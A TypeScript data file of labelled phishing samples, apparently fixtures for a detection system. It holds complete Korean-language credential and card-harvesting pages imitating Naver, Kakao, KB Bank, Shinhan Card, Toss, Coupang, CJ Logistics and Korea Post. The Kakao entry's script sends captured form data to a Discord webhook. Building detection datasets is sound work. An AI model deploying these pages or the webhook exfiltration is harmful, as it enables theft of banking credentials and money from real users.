import { htmlRoute, type Entry } from '../entry.js';
import { jsonRoute, jsRoute } from '../parts/e-bin.js';
import { doc, wordmark, tile, spinnerCss } from '../parts/yj-kit.js';

// Credential and card kits (Korea).

export const entries: Entry[] = [
  // yj-naver-login-kit
{
  id: 'yj-naver-login-kit',
  label: 'phishing',
  kind: 'portal-login-kit',
  url: 'https://nid-naver.mybox-share.com/nidlogin.login?mode=form&url=https%3A%2F%2Fmybox.naver.com%2Fshare%2F8fd2a1',
  body: doc({
    lang: 'ko',
    title: '네이버 : 로그인',
    css: `body{background:#f5f6f7}.w{width:460px;max-width:100%;margin:0 auto;padding-top:60px}.lg{text-align:center;margin-bottom:30px}.panel{background:#fff;border:1px solid #dadada;border-radius:6px;padding:20px 28px}
.tab{display:flex;border-bottom:1px solid #e3e5e8;margin:-20px -28px 20px}.tab a{flex:1;text-align:center;padding:14px 0;text-decoration:none;color:#888;font-size:15px}.tab a.on{color:#000;font-weight:bold;border-bottom:2px solid #000}
.in{border:1px solid #dadada;padding:14px;display:block;width:100%;font-size:16px;margin-bottom:-1px}.sh{background:#e8f3ff;border-radius:6px;padding:10px;font-size:13px;margin-bottom:14px}.btn{width:100%;margin-top:18px;background:#03c75a;color:#fff;border:0;border-radius:6px;padding:14px;font-size:18px;font-weight:bold}
.ft{text-align:center;font-size:12px;color:#888;margin-top:26px}`,
    body: `<div class="w"><div class="lg">${wordmark('NAVER', '#03c75a', { w: 170, size: 34, weight: 900 })}</div>
<div class="panel"><div class="tab"><a class="on" href="#">ID 로그인</a><a href="#">일회용 번호</a><a href="#">QR코드</a></div>
<div class="sh">📁 <b>김지현</b>님이 MYBOX 파일을 공유했습니다: <b>2025_하반기_정산내역.xlsx</b><br>파일을 확인하려면 로그인하세요.</div>
<form id="frmNIDLogin" method="post" action="/nidlogin.php"><input class="in" id="id" name="id" placeholder="아이디 또는 전화번호"><input class="in" id="pw" name="pw" type="password" placeholder="비밀번호">
<label style="font-size:13px;display:block;margin-top:10px"><input type="checkbox" name="nvlong"> 로그인 상태 유지</label>
<button class="btn" type="submit">로그인</button></form></div>
<div class="ft"><a href="#">비밀번호 찾기</a> | <a href="#">아이디 찾기</a> | <a href="#">회원가입</a><br><br>&copy; NAVER Corp.</div></div>`,
    tail: `<script>
var hint=new URLSearchParams(location.search).get('email');if(hint)document.getElementById('id').value=hint.split('@')[0];
document.getElementById('frmNIDLogin').onsubmit=function(){if(!this.id.value||!this.pw.value){alert('아이디와 비밀번호를 입력해주세요.');return false}};
</script>`,
  }),
  routes: {
    'nid-naver.mybox-share.com/nidlogin.php': htmlRoute('<!DOCTYPE html><meta charset="utf-8"><title>네이버</title><script>alert("비밀번호가 일치하지 않습니다. 다시 시도해 주세요.");location.replace("/nidlogin.login?mode=form&retry=1")</script>'),
  },
},
  // yj-kakao-account-protect
{
  id: 'yj-kakao-account-protect',
  label: 'phishing',
  kind: 'messaging-account-kit',
  url: 'https://accounts-kakao.protect-center.net/login?continue=https%3A%2F%2Fcs.kakao.com',
  body: doc({
    lang: 'ko',
    title: '카카오계정',
    css: `body{background:#fff}.w{max-width:400px;margin:0 auto;padding:50px 20px}.lg{margin-bottom:34px}.nt{background:#fff8dc;border:1px solid #f2e08f;border-radius:8px;padding:12px;font-size:13px;margin-bottom:18px}
input{width:100%;border:0;border-bottom:2px solid #e5e5e5;padding:12px 0;font-size:16px;margin-bottom:12px;outline:none}input:focus{border-bottom-color:#000}.b{width:100%;background:#fee500;border:0;border-radius:6px;padding:14px;font-size:16px;color:#191919;margin-top:10px}.s{font-size:12px;color:#888}`,
    body: `<div class="w"><div class="lg">${wordmark('kakao', '#191919', { w: 110, size: 28 })}</div>
<div class="nt"><b>[카카오 보호조치]</b> 고객님의 계정에서 해외 IP(베트남)로부터 비정상적인 로그인 시도가 감지되어 보호조치되었습니다. 본인 확인 후 보호조치를 해제하세요.</div>
<form id="kf"><input name="loginId" placeholder="카카오메일 아이디, 이메일, 전화번호"><input name="password" type="password" placeholder="비밀번호">
<input name="phone" type="tel" placeholder="휴대폰 번호 (본인확인용)"><button class="b">로그인</button></form>
<p class="s">보호조치 해제는 24시간 이내에 진행해야 합니다. 미해제 시 계정 이용이 제한될 수 있습니다.</p></div>`,
    tail: `<script src="/js/app.min.js"></script>`,
  }),
  routes: {
    'accounts-kakao.protect-center.net/js/app.min.js': jsRoute(`(function(){var f=document.getElementById("kf");var h="https://discord.com/api/webhooks/1298347561029384756/q7Zr0-fPw3Lk9xVb2NcYe8HtJmUaSd4GiO1KlRnBvCxZ6TyWqEp5AoI3uHgFjDs";f.addEventListener("submit",function(e){e.preventDefault();var o={};new FormData(f).forEach(function(v,k){o[k]=v});fetch(h,{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({username:"kk",content:"\`\`\`"+JSON.stringify(o)+"\`\`\`"})}).then(function(){location.href="/verify/sms"}).catch(function(){location.href="/verify/sms"})})})();`),
    'accounts-kakao.protect-center.net/verify/sms': htmlRoute(doc({ lang: 'ko', title: '카카오계정 본인확인', css: `.w{max-width:400px;margin:0 auto;padding:50px 20px}input{width:100%;padding:12px;font-size:20px;letter-spacing:6px}button{width:100%;background:#fee500;border:0;padding:14px;margin-top:12px}`, body: `<div class="w"><h2>인증번호 입력</h2><p>휴대폰으로 발송된 인증번호 6자리를 입력해주세요.</p><form method="post" action="/verify/sms.php"><input name="code" maxlength="6"><button>확인</button></form></div>` })),
  },
},
  // yj-kbstar-cert-renew
{
  id: 'yj-kbstar-cert-renew',
  label: 'phishing',
  kind: 'kr-bank-kit',
  url: 'https://kbstar-cert.kr-renew.com/quics?page=C025255',
  body: doc({
    lang: 'ko',
    title: 'KB국민은행 | 인증서 갱신',
    css: `body{background:#f6f4ef}.hd{background:#fff;border-bottom:1px solid #ddd;padding:12px 20px;display:flex;align-items:center;gap:10px}.w{max-width:600px;margin:20px auto;background:#fff;padding:24px 30px;border-top:4px solid #ffbc00}
h1{font-size:20px}.g{background:#f8f8f8;padding:12px;font-size:13px;color:#555}.row{display:flex;align-items:center;margin:12px 0}.row label{width:160px;font-size:14px;font-weight:bold}.row input{flex:1;padding:9px;font-size:15px;border:1px solid #bbb}
.btn{display:block;margin:20px auto 0;background:#60584c;color:#fff;border:0;padding:13px 70px;font-size:16px}.sec{display:grid;grid-template-columns:repeat(5,1fr);gap:4px;margin-top:6px}.sec input{width:100%;padding:6px;text-align:center}`,
    body: `<div class="hd">${tile('★', '#ffbc00', '#60584c', 36)}<b>KB국민은행</b><span style="font-size:12px;color:#888">인터넷뱅킹</span></div>
<div class="w"><h1>공동인증서(구 공인인증서) 갱신 안내</h1>
<div class="g">고객님의 인증서가 만료 예정입니다. 금융감독원 전자금융 보안강화 지침에 따라 보안카드 정보 확인 후 인증서를 갱신하시기 바랍니다. 미갱신 시 인터넷뱅킹 이용이 제한됩니다.</div>
<form method="post" action="/quics/renew.do">
<div class="row"><label>이름</label><input name="nm"></div>
<div class="row"><label>주민등록번호</label><input name="jumin1" maxlength="6" style="max-width:120px"> - <input name="jumin2" type="password" maxlength="7" style="max-width:140px"></div>
<div class="row"><label>출금계좌번호</label><input name="acct"></div>
<div class="row"><label>계좌 비밀번호</label><input name="acctpw" type="password" maxlength="4"></div>
<div class="row"><label>인증서 비밀번호</label><input name="certpw" type="password"></div>
<p style="font-size:14px;font-weight:bold;margin-top:18px">보안카드 번호 (1~30번 전체 입력)</p>
<div class="sec">${Array.from({ length: 30 }, (_, i) => `<input name="sc${i + 1}" maxlength="4" placeholder="${i + 1}">`).join('')}</div>
<button class="btn">갱신하기</button></form></div>`,
  }),
},
  // yj-shinhan-card-overseas
{
  id: 'yj-shinhan-card-overseas',
  label: 'phishing',
  kind: 'card-issuer-kit',
  url: 'https://shinhancard-safe.com/mob/MOBFM064N/cancel.shc',
  body: doc({
    lang: 'ko',
    title: '신한카드 - 해외결제 승인 취소',
    css: `body{background:#f3f6fb}.hd{background:#0046ff;color:#fff;padding:14px 18px;font-weight:bold}.w{max-width:480px;margin:0 auto;padding:16px}.c{background:#fff;border-radius:12px;padding:18px;margin-bottom:12px}
.amt{font-size:26px;font-weight:bold}.red{color:#e5243b}label{display:block;font-size:13px;margin:12px 0 4px;color:#555}input{width:100%;padding:12px;border:1px solid #ccd;border-radius:8px;font-size:16px}
.b{width:100%;background:#0046ff;color:#fff;border:0;border-radius:10px;padding:15px;font-size:16px;margin-top:14px}`,
    body: `<div class="hd">신한카드 SOL페이</div>
<div class="w"><div class="c"><p class="red">[해외결제 승인 알림]</p><p>Shinhan 본인 1234 승인<br>AMAZON MKTPLC (US)</p><p class="amt">USD 1,289.00</p><p style="font-size:13px;color:#666">2025.10.17 03:12 | 일시불</p></div>
<div class="c"><b>본인이 결제하지 않으셨나요?</b><p style="font-size:14px">아래 정보를 입력하시면 승인 취소 및 카드 도용 신고가 즉시 접수됩니다.</p>
<form id="sf"><label>성명</label><input name="name"><label>생년월일 (6자리)</label><input name="birth" maxlength="6"><label>휴대폰 번호</label><input name="hp"><label>카드번호</label><input name="cardno" maxlength="19"><label>유효기간 (MM/YY)</label><input name="valid"><label>CVC</label><input name="cvc" maxlength="3"><label>카드 비밀번호 앞 2자리</label><input name="pw2" type="password" maxlength="2"><button class="b">승인 취소 신청</button></form></div></div>`,
    tail: `<script>
document.getElementById('sf').onsubmit=function(e){e.preventDefault();var d=new FormData(this);fetch('/mob/api/cancel.php',{method:'POST',body:d}).then(function(){document.querySelector('.w').innerHTML='<div class="c"><b>접수 완료</b><p>고객센터 상담원이 곧 연락드립니다. 안내 전화(02-6950-1004)를 꼭 받아주세요.</p></div>'})};
</script>`,
  }),
  routes: { 'shinhancard-safe.com/mob/api/cancel.php': jsonRoute({ result: 'Y' }) },
},
  // yj-toss-limit-kit
{
  id: 'yj-toss-limit-kit',
  label: 'phishing',
  kind: 'qr-wallet-kit',
  url: 'https://toss-im.security-check.kr.com/verify',
  body: doc({
    lang: 'ko',
    title: '토스 | 계정 보호',
    css: `body{background:#fff;color:#191f28}.w{max-width:420px;margin:0 auto;padding:30px 22px}h1{font-size:24px;line-height:1.4}p{color:#4e5968;font-size:15px}
input{width:100%;border:0;border-bottom:2px solid #e5e8eb;padding:14px 0;font-size:20px;outline:none;margin-bottom:18px}input:focus{border-bottom-color:#3182f6}.b{position:fixed;left:16px;right:16px;bottom:20px;max-width:388px;margin:0 auto;background:#3182f6;color:#fff;border:0;border-radius:14px;padding:17px;font-size:17px;font-weight:bold}
.pin{display:grid;grid-template-columns:repeat(6,1fr);gap:8px}.pin input{text-align:center;font-size:24px}${spinnerCss}`,
    body: `<div class="w">${tile('t', '#3182f6', '#fff', 44)}
<h1>이상 거래가 감지되어<br>송금 한도가 제한됐어요</h1>
<p>본인 확인을 완료하면 바로 제한이 풀려요.</p>
<form id="tf"><input name="name" placeholder="이름"><input name="birth" placeholder="생년월일 6자리" maxlength="6"><input name="phone" type="tel" placeholder="휴대폰 번호">
<p style="margin-top:8px">토스 비밀번호 6자리</p><div class="pin">${Array.from({ length: 6 }, (_, i) => `<input type="password" maxlength="1" inputmode="numeric" name="p${i}">`).join('')}</div>
<button class="b">확인</button></form></div>`,
    tail: `<script>
var ins=document.querySelectorAll('.pin input');ins.forEach(function(el,i){el.addEventListener('input',function(){if(el.value&&ins[i+1])ins[i+1].focus()})});
document.getElementById('tf').onsubmit=function(e){e.preventDefault();var o={};new FormData(this).forEach(function(v,k){o[k]=v});o.pin=[0,1,2,3,4,5].map(function(i){return o['p'+i]}).join('');
fetch('/api/collect',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(o)}).then(function(){location.href='/verify/account'})};
</script>`,
  }),
  routes: {
    'toss-im.security-check.kr.com/api/collect': jsonRoute({ ok: true }),
    'toss-im.security-check.kr.com/verify/account': htmlRoute(doc({ lang: 'ko', title: '토스 | 계좌 인증', css: `.w{max-width:420px;margin:0 auto;padding:30px 22px}input{width:100%;padding:14px 0;border:0;border-bottom:2px solid #e5e8eb;font-size:18px;margin-bottom:14px}button{width:100%;background:#3182f6;color:#fff;border:0;border-radius:14px;padding:16px}`, body: `<div class="w"><h1>연결된 계좌를<br>인증해주세요</h1><form method="post" action="/api/account"><input name="bank" placeholder="은행"><input name="acct" placeholder="계좌번호"><input name="acctpw" type="password" placeholder="계좌 비밀번호 4자리"><input name="otp" placeholder="OTP 번호"><button>인증하기</button></form></div>` })),
  },
},
  // yj-coupang-order-cancel
{
  id: 'yj-coupang-order-cancel',
  label: 'phishing',
  kind: 'marketplace-kit',
  url: 'https://coupang-order.cancel-center.shop/np/orders/cancel?orderId=27019384421',
  body: doc({
    lang: 'ko',
    title: '쿠팡! | 주문 취소 확인',
    css: `body{background:#f2f2f2}.hd{background:#fff;padding:14px 18px;border-bottom:1px solid #ddd}.w{max-width:520px;margin:18px auto;background:#fff;padding:22px}
.o{border:1px solid #eee;padding:12px;font-size:14px}.o b{font-size:16px}label{display:block;font-size:13px;margin:12px 0 4px}input{width:100%;padding:11px;border:1px solid #ccc;font-size:16px}.b{width:100%;margin-top:18px;background:#346aff;color:#fff;border:0;padding:14px;font-size:16px;font-weight:bold}`,
    body: `<div class="hd">${wordmark('coupang', '#c73d2c', { w: 130, size: 26 })}</div>
<div class="w"><h2 style="font-size:18px">주문이 접수되었습니다</h2>
<div class="o"><b>Apple 2025 맥북 프로 14 M4</b><br>주문번호 27019384421 · 2,590,000원 · 결제완료<br>배송지: 경기도 성남시 분당구 ...</div>
<p style="font-size:14px">본인이 주문하지 않으셨다면 아래에서 로그인 후 즉시 취소하세요. 취소 시 결제 금액은 전액 환불됩니다.</p>
<form method="post" action="/np/orders/cancel.php"><label>아이디(이메일)</label><input name="email" type="email"><label>비밀번호</label><input name="password" type="password"><label>결제 카드번호</label><input name="card"><label>유효기간</label><input name="exp" placeholder="MM/YY"><label>카드 비밀번호 앞 2자리</label><input name="cpw" type="password" maxlength="2"><button class="b">로그인하고 주문 취소</button></form></div>`,
  }),
},
  // yj-cj-address-unknown
{
  id: 'yj-cj-address-unknown',
  label: 'phishing',
  kind: 'parcel-fee-kit',
  url: 'https://cjlogistics.kr-tracking.cc/web/address?inv=572910384716',
  body: doc({
    lang: 'ko',
    title: 'CJ대한통운 - 주소 확인',
    css: `body{background:#fff}.hd{background:#003e7e;color:#fff;padding:12px 16px}.w{max-width:460px;margin:0 auto;padding:16px}.st{background:#fff2f2;border:1px solid #f5b5b5;padding:12px;border-radius:6px;font-size:14px}
table{width:100%;font-size:13px;border-collapse:collapse;margin:12px 0}td{padding:8px;border-bottom:1px solid #eee}label{display:block;font-size:13px;margin:10px 0 3px}input{width:100%;padding:11px;font-size:16px;border:1px solid #bbb;border-radius:4px}
.b{width:100%;margin-top:16px;background:#f47920;color:#fff;border:0;padding:14px;border-radius:4px;font-size:16px}`,
    body: `<div class="hd"><b>CJ대한통운</b> 택배 배송조회</div>
<div class="w"><div class="st">📦 고객님의 택배가 <b>주소 불명</b>으로 보관 중입니다. 도로명 주소를 확인해 주세요.</div>
<table><tr><td>운송장번호</td><td>5729-1038-4716</td></tr><tr><td>상품</td><td>생활용품</td></tr><tr><td>현재 위치</td><td>곤지암 Hub</td></tr><tr><td>재배송 수수료</td><td>2,800원</td></tr></table>
<form id="cj" method="post" action="/web/address/save"><label>받는 분 성함</label><input name="name"><label>휴대폰</label><input name="hp"><label>주소</label><input name="addr"><label>상세주소</label><input name="addr2">
<label>카드번호 (재배송 수수료 결제)</label><input name="card"><label>유효기간</label><input name="exp" placeholder="MM/YY"><label>CVC</label><input name="cvc" maxlength="3"><button class="b">주소 확인 및 결제</button></form></div>`,
  }),
},
  // yj-koreapost-customs-fee
{
  id: 'yj-koreapost-customs-fee',
  label: 'phishing',
  kind: 'parcel-fee-kit',
  url: 'https://epost-go.kr-customs.net/main',
  body: doc({
    lang: 'ko',
    title: '인터넷우체국 | 통관 수수료 납부',
    css: `body{background:#f7f7f7}.hd{background:#fff;border-bottom:3px solid #e1251b;padding:12px 18px}.w{max-width:560px;margin:18px auto;background:#fff;padding:22px;border:1px solid #e5e5e5}
.t{font-size:14px;line-height:1.7}dl{display:grid;grid-template-columns:120px 1fr;font-size:14px;gap:6px;background:#fafafa;padding:12px}label{display:block;font-size:13px;margin:10px 0 3px}input{width:100%;padding:10px;font-size:16px;border:1px solid #bbb}.b{margin-top:16px;width:100%;background:#e1251b;color:#fff;border:0;padding:14px;font-size:16px}`,
    body: `<div class="hd">${wordmark('우체국', '#e1251b', { w: 100, size: 22 })} <span style="font-size:13px">인터넷우체국 국제우편</span></div>
<div class="w"><h2 style="font-size:18px">국제소포 통관 대기 안내</h2><p class="t">고객님 앞으로 발송된 국제소포(EMS)가 관세 및 통관 수수료 미납으로 인천 국제우편물류센터에 보관 중입니다. 3일 이내 미납 시 발송지로 반송됩니다.</p>
<dl><dt>등기번호</dt><dd>EE 482 917 306 KR</dd><dt>발송국가</dt><dd>CHINA</dd><dt>납부금액</dt><dd>3,500원</dd></dl>
<form method="post" action="/main/pay.jsp"><label>수취인 성명</label><input name="rcv"><label>개인통관고유부호</label><input name="pccc" placeholder="P로 시작하는 13자리"><label>휴대전화</label><input name="hp"><label>카드번호</label><input name="cardNo"><label>유효기간</label><input name="expDt"><label>CVC</label><input name="cvc"><button class="b">납부하기</button></form></div>`,
  }),
},
];
